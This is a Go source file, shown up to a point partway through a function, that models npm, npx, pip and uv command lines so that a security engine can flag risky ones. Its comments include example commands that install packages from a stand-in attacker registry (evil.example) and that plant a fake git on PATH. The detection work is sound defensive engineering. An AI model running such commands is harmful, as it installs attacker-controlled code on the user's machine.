package argmodel

import (
	"slices"
	"strings"
	"sync"
)

// Models of the package managers (npm, pnpm, yarn, bun, npx and the
// publishing tools of other languages) and the forge and cloud clients.

// npmCommands and npmAliases are npm's command list, as npm resolves it:
// a camelCase name is made kebab-case, an alias is followed, and any
// unambiguous prefix of a command or alias names it (npm pu is publish).
var npmCommands = []string{"access", "adduser", "approve-scripts", "audit", "bugs", "cache", "ci", "completion",
	"config", "dedupe", "deny-scripts", "deprecate", "diff", "dist-tag", "docs", "doctor", "edit", "exec",
	"explain", "explore", "find-dupes", "fund", "get", "help", "help-search", "init", "install", "install-ci-test",
	"install-scripts", "install-test", "link", "ll", "login", "logout", "ls", "org", "outdated", "owner", "pack",
	"ping", "pkg", "prefix", "profile", "prune", "publish", "query", "rebuild", "repo", "restart", "root", "run",
	"sbom", "search", "set", "shrinkwrap", "stage", "star", "stars", "start", "stop", "team", "test", "token",
	"trust", "undeprecate", "uninstall", "unpublish", "unstar", "update", "version", "view", "whoami"}

var npmAliases = map[string]string{"author": "owner", "home": "docs", "issues": "bugs", "info": "view",
	"show": "view", "find": "search", "add": "install", "unlink": "uninstall", "remove": "uninstall",
	"rm": "uninstall", "r": "uninstall", "un": "uninstall", "rb": "rebuild", "list": "ls", "ln": "link",
	"create": "init", "i": "install", "it": "install-test", "cit": "install-ci-test", "u": "update",
	"up": "update", "c": "config", "s": "search", "se": "search", "tst": "test", "t": "test", "ddp": "dedupe",
	"v": "view", "run-script": "run", "clean-install": "ci", "clean-install-test": "install-ci-test", "x": "exec",
	"why": "explain", "la": "ll", "verison": "version", "ic": "ci", "innit": "init", "in": "install",
	"ins": "install", "inst": "install", "insta": "install", "instal": "install", "isnt": "install",
	"isnta": "install", "isntal": "install", "isntall": "install", "install-clean": "ci", "isntall-clean": "ci",
	"hlep": "help", "dist-tags": "dist-tag", "upgrade": "update", "udpate": "update", "rum": "run",
	"sit": "install-ci-test", "urn": "run", "ogr": "org", "add-user": "adduser"}

// npmResolve is npm's own reading of a command name.
// NpmCommand returns the npm command word w names, as npm reads it (an
// alias, an unambiguous prefix, camelCase), or "".
func NpmCommand(w string) string {
	c := npmResolve(w)
	if a, ok := npmAliases[c]; ok {
		return a
	}
	return c
}

func npmResolve(c string) string {
	if strings.ContainsAny(c, "ABCDEFGHIJKLMNOPQRSTUVWXYZ") {
		var b strings.Builder
		for i := 0; i < len(c); i++ {
			if c[i] >= 'A' && c[i] <= 'Z' {
				b.WriteByte('-')
				b.WriteByte(c[i] + 'a' - 'A')
			} else {
				b.WriteByte(c[i])
			}
		}
		c = b.String()
	}
	for _, n := range npmCommands {
		if n == c {
			return n
		}
	}
	if a, ok := npmAliases[c]; ok {
		return a
	}
	found := ""
	for _, n := range npmCommands {
		if strings.HasPrefix(n, c) {
			if found != "" {
				return ""
			}
			found = n
		}
	}
	for a := range npmAliases {
		if strings.HasPrefix(a, c) {
			if found != "" && found != a {
				return ""
			}
			found = a
		}
	}
	for i := 0; i < 4; i++ {
		if a, ok := npmAliases[found]; ok {
			found = a
		}
	}
	return found
}

const whyCall = "runs a shell command line chosen by a package runner"

// whyConfigFile is why an option that names a program's configuration
// file is judged like the variable that does (KUBECONFIG, DOCKER_CONFIG,
// npm_config_userconfig): the file, which the agent may have written,
// names programs the program runs.
const whyConfigFile = "reads its configuration from a file the command names, which may name programs it runs"

// npmOptions are the value-taking options npm reads anywhere (nopt: an
// option it does not know is a flag).
func npmOptions() []Option {
	return join(list(
		val("", RoleProgram, "script-shell", "shell", "git", "editor", "browser", "viewer").does(EffExec, "npm runs this program"),
		// node's options for every script npm runs (--import=data:…,
		// --require ./x): code npm's scripts load, as in NODE_OPTIONS.
		val("", RoleData, "node-options").does(EffComputed, "npm gives these options to node for every script it runs (--import, --require): code the engine does not read"),
		val("", RolePath, "init-module", "onload-script").runsFile().does(EffExec, "npm runs this script"),
		// A script that calls node-gyp runs this file instead (npm puts a
		// node-gyp on its PATH that runs the one configured).
		val("", RolePath, "node-gyp").runsFile().does(EffExec, "npm runs this file for every node-gyp a script calls"),
		val("c", RoleCode, "call").code(LangShell).does(EffComputed, whyCall),
		val("w", RoleData, "workspace"), val("C", RolePath, "prefix"), val("", RolePath, "cache"), flag("g", "global"),
		// Flags of their own, not abbreviations of the options they begin
		// (npm --provenance publish publishes; --workspaces takes no value).
		flag("", "provenance", "workspaces"),
		val("", RolePath, "userconfig", "globalconfig").does(EffComputed, whyConfigFile+" (script-shell, the programs npm runs)"),
		val("", RoleData, "package").does(EffExec|EffComputed, whyRemotePackage).when(RemotePackage),
	), vals(RoleData, "registry", "tag", "otp", "access", "loglevel", "scope", "omit", "include",
		"before", "install-strategy", "auth-type", "location", "provenance-file"))
}

func npmModel() *Spec {
	// npm's configuration names are the same in any case and with '_'
	// for '-' (--script_shell, --SCRIPT-SHELL): npm hands an option it
	// does not know to the scripts it runs, where an npm reads it.
	s := Syntax{Permute: true, Abbrev: true, Underscore: true, FoldCase: true}
	exec := &Spec{Name: "exec", Syntax: s, Open: true, Inherit: true, Operands: []Operand{{Role: RoleCommand}}, Judge: npmExecTail}
	root := &Spec{Name: "npm", Syntax: s, Open: true, Options: npmOptions(), Resolve: npmResolve}
	root.Subs = join2([]*Spec{exec,
		group(s, "dist-tag", "add", "rm"), group(s, "owner", "add", "rm"), group(s, "access", "set", "grant", "revoke"),
		group(s, "org", "set", "rm"), group(s, "team", "create", "destroy", "add", "rm"), npmToken(s),
		group(s, "profile", "set", "enable-2fa", "disable-2fa"), group(s, "trust", "github", "gitlab", "revoke"),
		withSubs(cmd(s, "config"), configSet(s, "set"), configSet(s, "edit"), configSet(s, "delete"), npmConfigGet(s, "get")),
		npmPkg(s),
		configSet(s, "set"), npmConfigGet(s, "get"), execCmd(s, "edit"), npmExplore(s), initializer(s, "init")},
		// login and adduser contact the registry and store its token in
		// ~/.npmrc, the file every later npm reads.
		exts(s, "publish", "unpublish", "deprecate", "undeprecate", "star", "unstar", "hook", "login", "adduser"))
	for _, n := range npmCommands {
		if !hasSub(root, n) {
			root.Subs = append(root.Subs, cmd(s, n))
		}
	}
	root.Judge = func(r *Result, words []string) {
		judgeNpmPrefix(r, words)
		computedPackage(r, npmRegistryVerbs, "npm")
		computedRegistry(r)
		remoteInstall(r, words)
		scriptArgs(r, words)
	}
	return closed(root)
}

// scriptArgs reads the words a package manager's script is given as
// node's: they are added to the script's command line, which is node
// (node --test) as often as not, so node's options that load code
// (--import=data:…, --require with an inline module, --eval) or listen
// (--inspect=0.0.0.0) count. npm gives the script the words after "--"
// (npm test -- ARGS); pnpm, yarn and bun every word after the script's
// name (pnpm test ARGS, yarn build ARGS, pnpm --filter x run build ARGS).
func scriptArgs(r *Result, words []string) {
	var at int
	if len(words) > 0 && words[0] == "npm" {
		at = slices.Index(words, "--")
	} else {
		at = runnerScriptAt(r)
	}
	if at < 0 || at+1 >= len(words) || !slices.ContainsFunc(words[at+1:], nodeMayAct) {
		return // (node's code and its listening come by its options)
	}
	args := []string{"node"}
	for _, w := range words[at+1:] {
		if w != "--" {
			args = append(args, w)
		}
	}
	tail := nestedResults.Get().(*Result)
	defer nestedResults.Put(tail)
	if !readAs(tail, "node", args) {
		return
	}
	if f, ok := tail.First(EffExec | EffComputed | EffExternal); ok && f.Word > 0 {
		r.Effects |= f.Effect
		r.Findings = append(r.Findings, Finding{Effect: f.Effect, Word: at + 1,
			Why: "these words are added to the script's command line, which may be node's: " + f.Why})
	}
}

// nodeActs are the spellings of node's options that may do something the
// engine judges (load code, listen, read a file of options): every
// option of node's model but its plain flags, read from the model once.
// Short letters are kept as "-x".
var nodeActs = sync.OnceValue(func() map[string]bool {
	m := map[string]bool{}
	node := lookupSpec("node")
	if node == nil {
		return nil
	}
	for _, o := range node.Options {
		if o.Effect == 0 && o.Check == nil && o.Arg == ArgNone {
			continue // a plain flag (--watch)
		}
		for _, l := range o.Long {
			m["--"+l] = true
		}
		for _, c := range o.Short {
			m["-"+string(c)] = true
		}
	}
	return m
})

// nodeMayAct reports a word that may be one of nodeActs: its name before
// '=', or a cluster of short letters holding one (-pe, -r./x). Without
// the model every option may.
func nodeMayAct(w string) bool {
	if len(w) < 2 || w[0] != '-' || w == "--" {
		return false
	}
	acts := nodeActs()
	if acts == nil {
		return true
	}
	if w[1] == '-' {
		name, _, _ := strings.Cut(w, "=")
		return acts[name]
	}
	for _, c := range w[1:] {
		if acts["-"+string(c)] {
			return true
		}
	}
	return false
}

// runnerScriptAt returns the place of the word that names the script of
// pnpm, yarn or bun (test, start, run NAME, or a script's bare name),
// after which every word is the script's, or -1 for another command (add,
// exec, dlx, …). Options and their values are the model's; the commands
// that run another of the runner's (yarn workspace NAME, workspaces
// foreach, pnpm recursive) are read through.
func runnerScriptAt(r *Result) int {
	run, skip := false, false
	for _, it := range r.Items {
		switch {
		case it.Kind != KindSubcommand && it.Kind != KindOperand:
		case skip:
			skip = false // yarn workspace NAME
		case run:
			return it.Word
		case runsAgain[it.Text]:
			skip = it.Text == "workspace"
		case it.Text == "run" || it.Text == "run-script":
			run = true
		case it.Text == "test" || it.Text == "t" || it.Text == "start" || it.Kind == KindOperand:
			return it.Word // (an operand: a script's bare name, yarn build)
		default:
			return -1
		}
	}
	return -1
}

// readAs reads words through the model of program name into r, for the
// judges that read words as another program's, and reports whether the
// catalog has one. It is set at init: the catalog holds the judges, and a
// reading looks programs up in it, so a direct call would make the
// catalog's initialization depend on itself.
var readAs func(r *Result, name string, words []string) bool

// lookupSpec is Lookup, for the same reason as readAs.
var lookupSpec func(string) *Spec

func init() {
	lookupSpec = Lookup
	readAs = func(r *Result, name string, words []string) bool {
		m := Lookup(name)
		if m == nil {
			return false
		}
		parseInto(r, m, words, nil, nil, 0, 1)
		return true
	}
}

// computedRegistry finds a registry or proxy address known only at run
// time, on any npm command (npm view x --registry "https://h/$TOKEN"):
// every command that asks the registry sends what is in it.
func computedRegistry(r *Result) {
	for _, it := range r.Items {
		if it.ValueOf("registry", "proxy", "https-proxy") && it.computedText() {
			r.Effects |= EffExternal
			r.Findings = append(r.Findings, Finding{Effect: EffExternal, Word: it.Word, Why: whyComputedRequest})
			return
		}
	}
}

// judgeNpmPrefix finds a global install or link (-g, --global,
// --location=global, npm link) that puts programs on PATH under names a
// package of the command's own choosing picks: with --prefix (-C), npm
// puts them into PREFIX/bin, which may be any directory on PATH (npm i -g
// --prefix ~/.cargo ./tool makes ~/.cargo/bin/git); without it, into the
// global bin directory (/usr/bin where node is the system's), and the
// package is the project's own when it is a local one (npm i -g ., npm
// link with no package: its bin may be named git). A registry package
// installed globally is not judged here: SECURITY.md says so.
func judgeNpmPrefix(r *Result, words []string) {
	global, prefix, link := -1, -1, false
	nOps, first := 0, -1 // the operands, without allocating: a runner's every decision comes here
	for k, it := range r.Items {
		switch {
		case it.ValueOf("prefix"):
			prefix = it.Word
		case it.Kind == KindSubcommand && (it.Text == "link" || it.Text == "ln"):
			link = true
		case it.Kind == KindOperand:
			if nOps++; first < 0 {
				first = k
			}
		}
	}
	for i, w := range words {
		if w == "--" {
			break
		}
		// -g in a cluster of flags (-gd), --global and its prefixes,
		// --location global in either spelling, link, and yarn's global.
		short := len(w) > 1 && w[0] == '-' && w[1] != '-' && strings.IndexByte(w, 'g') > 0
		location := w == "--location=global" || w == "--location" && i+1 < len(words) && words[i+1] == "global"
		if short || strings.HasPrefix(w, "--gl") || location || w == "link" || w == "ln" || w == "global" {
			global = i
		}
	}
	if global < 0 {
		return
	}
	skip := -1
	if !link && first >= 0 && (r.Items[first].Text == "link" || r.Items[first].Text == "ln") {
		link, skip, nOps = true, first, nOps-1 // pnpm link, bun link: a runner's subcommand read as an operand
	}
	why, at := "", prefix
	switch {
	case prefix >= 0:
		why = "npm puts the package's programs into PREFIX/bin under names the package chooses, and PREFIX/bin may be a directory on PATH"
	case link && nOps == 0:
		why, at = "npm link puts the project's own programs into the global bin directory, on PATH, under the names its package.json chooses (git, ls)", global
	default:
		for k, it := range r.Items {
			if it.Kind == KindOperand && k != skip && (it.Computed || localPackage(it.Text)) {
				why, at = "npm installs a package of the command's own files globally: its programs go into the global bin directory, on PATH, under the names it chooses (git, ls)", it.Word
				break
			}
		}
	}
	if why == "" {
		return
	}
	r.Effects |= EffComputed
	r.Findings = append(r.Findings, Finding{Effect: EffComputed, Word: at, Why: why})
}

// localPackage reports a package spec that names files of the machine
// rather than a registry's or a host's package, as npm's spec reader
// does: a path (./x, /x, ~/x, x/), file: and link: specs, NAME@ one of
// those, and a tarball by its name in any case.
func localPackage(spec string) bool {
	if spec == "" {
		return false
	}
	switch spec[0] {
	case '.', '/', '~':
		return true
	}
	l := strings.ToLower(spec)
	if _, after, ok := strings.Cut(l[1:], "@"); ok { // past a scope's @
		if after == "" || strings.ContainsAny(after[:1], "./~") || strings.HasPrefix(after, "file:") || strings.HasPrefix(after, "link:") {
			return true
		}
	}
	return strings.HasPrefix(l, "file:") || strings.HasPrefix(l, "link:") || strings.HasSuffix(l, "/") ||
		strings.HasSuffix(l, ".tgz") || strings.HasSuffix(l, ".tar.gz") || strings.HasSuffix(l, ".tar")
}

// pipModel is pip's command line as far as the engine judges it: the
// general options that take a value (so that none hides the subcommand),
// --python, which runs pip again with another interpreter, and the config
// subcommands that write pip's configuration without naming the file.
// Every other subcommand is an operand of an open model.
func pipModel() *Spec {
	s := Syntax{Permute: true, Abbrev: true}
	write := func(n string) *Spec {
		c := cmd(s, n)
		c.Effect, c.Why = EffComputed, "writes pip's configuration (pip.conf, a protected file), which names the package index every later install downloads and runs code from"
		return c
	}
	// pip config list, get and debug print pip.conf's values: an index
	// URL holds its token (https://__token__:pypi-…@host).
	prints := func(n string) *Spec {
		c := cmd(s, n)
		c.Effect, c.Why = EffExternal, "prints pip's configuration, an index URL's token among it: "+whyPrintsSecret
		return c
	}
	cfg := withSubs(cmd(s, "config"), write("set"), write("unset"), write("edit"), prints("list"), prints("get"), prints("debug"))
	cfg.Options = list(flag("", "user", "global", "site"),
		// before or after its subcommand (pip config --editor vi edit)
		val("", RoleProgram, "editor").does(EffExec, "pip config edit runs this editor"))
	root := &Spec{Name: "pip", Syntax: s, Open: true, OpenSubs: true, Options: join(list(
		val("", RoleProgram, "python").runsFile().does(EffExec, "pip --python runs pip again with this interpreter"),
		val("", RolePath, "log", "cert", "client-cert", "cache-dir"),
	), vals(RoleData, "keyring-provider", "proxy", "retries", "timeout", "exists-action", "trusted-host",
		"use-feature", "use-deprecated"))}
	root.Subs = []*Spec{cfg}
	// pip download and wheel build a source package to read its metadata:
	// its setup.py runs as install's does.
	root.Judge = packageNames("pip", words("install", "download", "index", "wheel"), pipInstalls, pipIndexes, pyRemoteSpec)
	return root
}

// computedNames returns a judge for a package manager whose subcommands
// the model does not list: a name known only at run time after one of the
// verbs that ask an index for packages by name (pip download "x$(…)",
// cargo add, gem install) is a request that carries data, as
// computedPackage finds for the models that list their verbs.
func computedNames(prog string, verbs map[string]bool) func(*Result, []string) {
	return packageNames(prog, verbs, nil, nil, nil)
}

// packageNames is computedNames that also finds, after one of the verbs
// in installs, a package that remote says is fetched from a URL or a git
// repository (pip install git+https://…, uv pip install https://…/x.tar.gz,
// yarn add github:o/r): its build or install scripts run, code the engine
// cannot see. The value of one of the program's options in indexes (an
// index, a registry, a proxy) is not a package.
func packageNames(prog string, verbs, installs, indexes map[string]bool, remote func(string, bool) bool) func(*Result, []string) {
	return func(r *Result, ws []string) {
		if k := sourceOption(ws, 1); k > 0 {
			// uv sync --default-index=URL, uv tool install --index-url URL:
			// whatever the command, a URL in its options names where
			// packages come from.
			r.Effects |= EffExec | EffComputed
			r.Findings = append(r.Findings, Finding{Effect: EffExec | EffComputed, Word: k, Why: prog + " " + whyIndexURL})
			return
		}
		verb := -1
		for i := 1; i < len(ws); i++ {
			if ws[i] == "" || ws[i][0] == '-' {
				name, val, attached := strings.Cut(ws[i], "=")
				if list := requirementLists[prog]; list != nil && inputList(list, ws, i) {
					// pip download -r /dev/stdin <<< '--index-url URL': the
					// list, and the options in it, are the input's.
					r.Effects |= EffExec | EffComputed
					r.Findings = append(r.Findings, Finding{Effect: EffExec | EffComputed, Word: i, Why: prog + " " + whyInputList})
					return
				}
				if !indexes[name] {
					if indexOption(ws[i]) {
						// --requirement=URL, --constraint=URL, --index=URL
						// (an abbreviation), -iURL, gem's --source=URL.
						r.Effects |= EffExec | EffComputed
						r.Findings = append(r.Findings, Finding{Effect: EffExec | EffComputed, Word: i, Why: prog + " " + whyIndexURL})
						return
					}
					continue
				}
				if !attached && i+1 < len(ws) {
					i++
					val = ws[i]
				}
				if (strings.Contains(val, "://") || strings.HasPrefix(val, "//")) && !defaultIndex(val) || linksPage(val) {
					// pip install -f http://h/ x, --index-url=…: the
					// packages come from where the command says, and
					// their build scripts run.
					r.Effects |= EffExec | EffComputed
					r.Findings = append(r.Findings, Finding{Effect: EffExec | EffComputed, Word: i, Why: prog + " " + whyIndexURL})
					return
				}
				continue
			}
			if verb < 0 {
				if !verbs[ws[i]] {
					return
				}
				verb = i
				continue
			}
			if r.WordComputed(ws, i) && !localGlob(ws[i]) {
				r.Effects |= EffComputed
				r.Findings = append(r.Findings, Finding{Effect: EffComputed, Word: i, Why: prog + " " + ws[verb] + " " + whyComputedPackage})
				return
			}
			if installs[ws[verb]] && remote(ws[i], false) {
				r.Effects |= EffExec | EffComputed
				r.Findings = append(r.Findings, Finding{Effect: EffExec | EffComputed, Word: i, Why: prog + " " + ws[verb] + " " + whyRemoteInstall})
				return
			}
		}
	}
}

// requirementLists are, per program, the options whose value is a file
// listing packages, in which options (--index-url, -r, -e URL) may stand.
var requirementLists = map[string]map[string]bool{
	"pip": words("-r", "--requirement", "-c", "--constraint"),
	"uv":  words("-r", "--requirement", "-c", "--constraint", "--overrides", "--build-constraints", "-b"),
}

// whyInputList is why a list of packages read from the command's input
// or a substitution is judged.
const whyInputList = "reads the list of packages it installs from its input or a substitution, whose lines may name any index or URL: code the engine cannot see"

// inputList reports whether word i of ws is one of the options in list
// whose value (attached, or the next word) is standard input or a
// substitution: -r /dev/stdin, -r -, --requirement=<(…), -r/dev/fd/0.
func inputList(list map[string]bool, ws []string, i int) bool {
	w := ws[i]
	var val string
	switch name, v, eq := strings.Cut(w, "="); {
	case eq && list[name]:
		val = v
	case list[w] && i+1 < len(ws):
		val = ws[i+1]
	case len(w) > 2 && w[1] != '-' && list[w[:2]]:
		val = w[2:] // -r/dev/stdin
	default:
		return false
	}
	switch strings.TrimRight(val, "/") {
	case "-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0":
		return true
	}
	return strings.HasPrefix(val, "<(") || strings.HasPrefix(val, "/dev/fd/") || strings.HasPrefix(val, "/proc/self/fd/")
}

// sourceOption returns the place of the first option word from ws[from]
// on that names a URL other than the default index's (urlOption), or 0.
// The words of a command a run verb runs are that command's own (uv run
// pytest --base-url http://…, npx wait-on http://…), and so is what
// follows "--".
func sourceOption(ws []string, from int) int {
	run := false
	for i := from; i < len(ws); i++ {
		w := ws[i]
		switch {
		case w == "--":
			return 0
		case w == "" || w[0] != '-':
			if run {
				return 0 // the command's words
			}
			run = runVerbs[w]
			continue
		case urlOption(ws, i):
			return i
		}
	}
	return 0
}

// urlOption reports an option word ws[i] that names a URL other than the
// default index's, attached (indexOption) or as the next word (--proxy
// http://h:8080).
func urlOption(ws []string, i int) bool {
	return indexOption(ws[i]) || !strings.Contains(ws[i], "=") && i+1 < len(ws) && urlValue(ws[i+1])
}

// linksPage reports a local page of links (pip -f links.html): its links
// name where the packages come from, any host.
func linksPage(v string) bool {
	l := strings.ToLower(v)
	return strings.HasSuffix(l, ".html") || strings.HasSuffix(l, ".htm")
}

// runVerbs are the package managers' commands that run a command
// (uv run, uv tool run, pnpm dlx, pipx run): the words after it are its.
var runVerbs = words("run", "x", "exec", "dlx")

// urlValue reports a word that is a URL other than the default index's.
func urlValue(w string) bool {
	return (strings.Contains(w, "://") || strings.HasPrefix(w, "//")) && !defaultIndex(w)
}

// runnerSources is the judge of the package runners (npx, bunx, uvx,
// pipx run): an option before the package that names a URL (npx
// --registry=URL x, uvx --index-url URL x) is where the package comes from.
func runnerSources(prog string) func(*Result, []string) {
	return func(r *Result, ws []string) {
		for i := 1; i < len(ws); i++ {
			w := ws[i]
			if w == "--" || w == "" || w[0] != '-' {
				return
			}
			if urlOption(ws, i) {
				r.Effects |= EffExec | EffComputed
				r.Findings = append(r.Findings, Finding{Effect: EffExec | EffComputed, Word: i, Why: prog + " " + whyIndexURL})
				return
			}
		}
	}
}

// indexOption reports an option word that carries a URL other than the
// default index's (--index=URL, --@s:registry=URL, -iURL, --proxy=URL):
// whatever the option's spelling, a URL in it names where packages, or
// the list of them, come from, and their build or install scripts run.
func indexOption(w string) bool {
	if w == "" || w[0] != '-' {
		return false
	}
	_, val, _ := strings.Cut(w, "=")
	if !strings.Contains(w, "://") && !strings.HasPrefix(val, "//") {
		return false // (--registry=//host/ is a URL of the scheme in use)
	}
	return !defaultIndex(val)
}

// whyIndexURL is why an index, a registry or a page of links the command
// names by a URL is judged.
const whyIndexURL = "fetches the packages it installs from an index or a page the command names by a URL, and their build or install scripts run: code the engine cannot see"

// defaultIndex reports a URL of the index or registry the package
// managers use by default (https://pypi.org/simple, the npm registry):
// naming it changes nothing.
func defaultIndex(u string) bool {
	rest, ok := strings.CutPrefix(u, "https://")
	if !ok {
		return false
	}
	host, _, _ := strings.Cut(rest, "/")
	switch host {
	case "pypi.org", "files.pythonhosted.org", "registry.npmjs.org", "registry.yarnpkg.com":
		return true
	}
	return false
}

// localGlob reports a glob over files of a directory (dist/*.whl), with
// no expansion and nothing of a URL or a repository's spec (:, @, #): the
// names it gives are files on this machine, not a name asked of a
// registry. Whether the program reads such a word as a repository (npm's
// owner/repo) is its remote check's to say, which runs on it still.
func localGlob(w string) bool {
	return strings.IndexByte(w, '/') >= 0 && !strings.ContainsAny(w, "$`:@#")
}

// pipIndexes, uvIndexes and runnerIndexes are the options whose value,
// the next word, names an index, a registry or a proxy rather than a
// package (pip's -f is --find-links; the runners' -f is --force).
var (
	pipIndexes    = words("-i", "--index-url", "--extra-index-url", "-f", "--find-links", "--proxy")
	uvIndexes     = words("-i", "--index-url", "--extra-index-url", "-f", "--find-links", "--index", "--default-index")
	runnerIndexes = words("--registry")
)

// whyRemoteInstall is why a package installed from a URL or a git
// repository is judged.
const whyRemoteInstall = "installs a package fetched from a URL or a git repository, whose build or install scripts run: code the engine cannot see"

// remoteInstall finds an operand of npm's install commands that names a
// package fetched from a URL or a git repository (RemotePackage).
func remoteInstall(r *Result, words []string) {
	installs := false
	for _, it := range r.Items {
		// (The subcommand's own item: npm ci --proxy=URL has no operand.)
		installs = installs || it.Spec != nil && (npmInstallVerbs[it.Spec.Name] || npmFetchVerbs[it.Spec.Name]) ||
			it.Kind == KindSubcommand && (npmInstallVerbs[npmResolve(it.Text)] || npmFetchVerbs[npmResolve(it.Text)])
	}
	if !installs {
		return
	}
	if k := sourceOption(words, 1); k > 0 {
		// npm i @s/x --@s:registry=http://evil.example/, npm ci --proxy
		// URL: a scope's registry, a proxy, any option's URL.
		r.Effects |= EffExec | EffComputed
		r.Findings = append(r.Findings, Finding{Effect: EffExec | EffComputed, Word: k, Why: "npm " + whyIndexURL})
		return
	}
	for _, it := range r.Items {
		if it.ValueOf("registry") && (it.Computed || !defaultIndex(it.Text)) {
			// npm i --registry https://evil.example/ x: the packages come
			// from where the command says.
			r.Effects |= EffExec | EffComputed
			r.Findings = append(r.Findings, Finding{Effect: EffExec | EffComputed, Word: it.Word, Why: "npm " + whyIndexURL})
			return
		}
	}
	for _, it := range r.Items {
		if it.Kind == KindOperand && it.Spec != nil && npmInstallVerbs[it.Spec.Name] && RemotePackage(it.Text, false) {
			r.Effects |= EffExec | EffComputed
			r.Findings = append(r.Findings, Finding{Effect: EffExec | EffComputed, Word: it.Word, Why: "npm " + it.Spec.Name + " " + whyRemoteInstall})
			return
		}
	}
}

// npmFetchVerbs are npm's other commands that fetch packages and run
// their scripts: exec's, the lockfile's, the updated ones.
var npmFetchVerbs = words("exec", "ci", "update", "rebuild", "dedupe")

// npmInstallVerbs are npm's commands that install the packages they name.
var npmInstallVerbs = words("install", "install-test", "install-ci-test")

func hasSub(s *Spec, n string) bool { return child(s, n) != nil }

// child finds a subcommand by name before the model is compiled.
func child(s *Spec, n string) *Spec {
	for _, sub := range s.Subs {
		if sub.Name == n {
			return sub
		}
	}
	return nil
}

// npmPkg is npm pkg: set and delete rewrite package.json, and a key under
// scripts changes what a later npm test, npm run or npm install runs
// (like git config alias.*), which the engine cannot follow from one
// command to the next.
func npmPkg(s Syntax) *Spec {
	pkg := cmd(s, "pkg")
	for _, n := range []string{"get", "set", "delete", "fix"} {
		sub := cmd(s, n)
		if n == "set" || n == "delete" {
			sub.Judge = judgeNpmPkg
		}
		pkg.Subs = append(pkg.Subs, sub)
	}
	return pkg
}

// judgeNpmPkg finds, in npm pkg set KEY=VALUE … or npm pkg delete KEY …,
// a key of the scripts (or one known only at run time).
func judgeNpmPkg(r *Result, words []string) {
	for _, it := range r.Items {
		if it.Kind != KindOperand || it.Spec == nil || it.Spec.Judge == nil {
			continue
		}
		key, _, _ := strings.Cut(it.Text, "=")
		key = strings.TrimSpace(key) // npm trims the key (' scripts.test=…' is scripts.test)
		_, value, _ := strings.Cut(it.Text, "=")
		switch {
		case it.Computed:
			cloudFinding(r, it.Word, "npm pkg writes a key of package.json known only at run time, which may be a script")
		case key == "scripts" || strings.HasPrefix(key, "scripts.") || strings.HasPrefix(key, "scripts["):
			cloudFinding(r, it.Word, "npm pkg changes the script "+key+", which a later npm command runs")
		case dependencyKey(key) && (RemotePackage(strings.TrimSpace(value), false) || !strings.ContainsRune(key, '.') && strings.ContainsAny(value, ":/")):
			// npm pkg set dependencies.x=https://e.com/x.tgz: the next npm
			// install fetches it and runs its scripts (npm i URL asks).
			r.Effects |= EffExec | EffComputed
			r.Findings = append(r.Findings, Finding{Effect: EffExec | EffComputed, Word: it.Word,
				Why: "npm pkg sets " + key + " to a package fetched from a URL or a git repository, which npm install then installs, running its scripts: code the engine cannot see"})
		}
	}
}

// dependencyKey reports a key of package.json whose value names packages
// npm install fetches: a section of dependencies or one of its entries
// (dependencies.x, overrides.x.y).
func dependencyKey(key string) bool {
	section, _, _ := strings.Cut(key, ".")
	section, _, _ = strings.Cut(section, "[")
	switch section {
	case "dependencies", "devDependencies", "optionalDependencies", "peerDependencies",
		"bundleDependencies", "bundledDependencies", "overrides", "resolutions":
		return true
	}
	return false
}

func configSet(s Syntax, name string) *Spec {
	c := cmd(s, name)
	c.Effect, c.Why = EffComputed, "writes the package manager's configuration (.npmrc, a protected file), which names the shell and programs it runs"
	return c
}

func execCmd(s Syntax, name string) *Spec {
	c := cmd(s, name)
	c.Effect, c.Why = EffExec, "runs a shell"
	return c
}

// npmExplore is npm explore PKG [-- CMD ARGS…]: it runs CMD (its words
// joined) with the shell in the package's directory, or a shell when
// there is none.
func npmExplore(s Syntax) *Spec {
	c := execCmd(s, "explore")
	c.Operands = []Operand{{Role: RoleData}, {Role: RoleCode, Lang: LangShell}, {Role: RoleArg}}
	c.Judge = judgeExplore
	return c
}

// judgeExplore finds npm explore with no command: the shell it starts
// reads its commands from npm's input, which the engine does not read.
func judgeExplore(r *Result, words []string) {
	for _, it := range r.Items {
		if it.Role == RoleCode && it.Kind == KindOperand {
			return
		}
	}
	r.Effects |= EffComputed
	r.Findings = append(r.Findings, Finding{Effect: EffComputed, Word: len(words) - 1,
		Why: "npm explore with no command starts a shell that reads its commands from the input"})
}

// packageCommand is the operand of a package runner (npx, pnpm dlx, yarn
// dlx, bunx): the package's command, or a program on PATH of that name
// (npx git push runs git), with its arguments. The rule a person writes
// names the runner and the package (npx vitest), so the command is a
// reading of the segment, not a segment of its own.
var packageCommand = []Operand{{Role: RoleCommand, ViewOnly: true}}

// npxModel is npx, npm exec's other name: it takes every option of npm
// (npx --registry URL git push), and its own.
func npxModel() *Spec {
	return &Spec{Name: "npx", Syntax: GNUStop, Open: true, Options: join(npmOptions(), list(
		val("p", RoleData).does(EffExec|EffComputed, whyRemotePackage).when(RemotePackage), flag("y", "yes"), flag("", "no"), flag("q", "quiet"),
	)), Operands: packageCommand, Judge: runnerSources("npx")}
}

// pyRunner is uvx (uv tool run) and pipx run: the package's command with
// its arguments, read as that command; --from and --with name packages,
// -p/--python an interpreter.
func pyRunner(name string) *Spec {
	return &Spec{Name: name, Syntax: GNUStop, Open: true, Options: join(list(
		val("", RoleData, "from", "with", "spec").does(EffExec|EffComputed, whyRemotePackage).when(pyRemoteSpec),
		val("", RoleData, "with-requirements", "index", "index-url", "extra-index-url", "pip-args"),
		val("p", RoleData, "python"), flag("q", "quiet"), flag("", "isolated", "no-cache", "verbose"),
	), uvGlobal), Operands: packageCommand, Judge: runnerSources(name)}
}

// uvGlobal are uv's options that it reads before a subcommand and after
// one (uv --directory D run, uv run --directory D, uvx --directory D):
// --directory runs uv, and what it runs, there.
var uvGlobal = list(val("", RolePath, "directory").chdir(), val("", RolePath, "project"))

// pyRemoteSpec reports a Python requirement fetched from a URL or a
// version-control repository (git+https://…, pkg @ https://…); one known
// only at run time may be.
func pyRemoteSpec(spec string, computed bool) bool {
	if computed || strings.Contains(spec, "://") {
		return true
	}
	for _, p := range []string{"git+", "hg+", "svn+", "bzr+"} {
		if strings.HasPrefix(spec, p) {
			return true
		}
	}
	return false
}

// bunxModel is bunx (bun x): -p names the package whose command runs.
func bunxModel() *Spec {
	return &Spec{Name: "bunx", Syntax: GNUStop, Open: true, Options: list(
